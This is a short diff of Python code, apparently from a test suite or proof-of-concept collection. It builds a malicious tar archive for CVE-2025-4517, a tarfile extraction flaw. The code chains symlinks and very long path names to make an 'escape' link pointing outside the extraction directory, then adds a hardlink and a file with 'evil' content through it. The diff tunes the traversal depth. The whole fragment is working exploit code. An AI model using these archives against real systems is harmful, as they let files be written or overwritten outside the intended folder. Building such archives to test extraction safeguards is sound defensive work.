@@ -111,7 +111,7 @@ def cve_2025_4517(outside):
         members += [link(os.path.join(path, letter), folder)]
         path = os.path.join(path, folder)
     long = os.path.join("/".join("abcdefghijklmnop"), "l" * 254)
-    members += [link(long, "../" * 16), link("escape", long + "/.." * 40 + outside)]
+    members += [link(long, "../" * 16), link("escape", long + "/.." * 16 + outside)]
     members += [link("flag", "escape/there", tarfile.LNKTYPE), member("flag", b"evil")]
     return tar(*members)
 
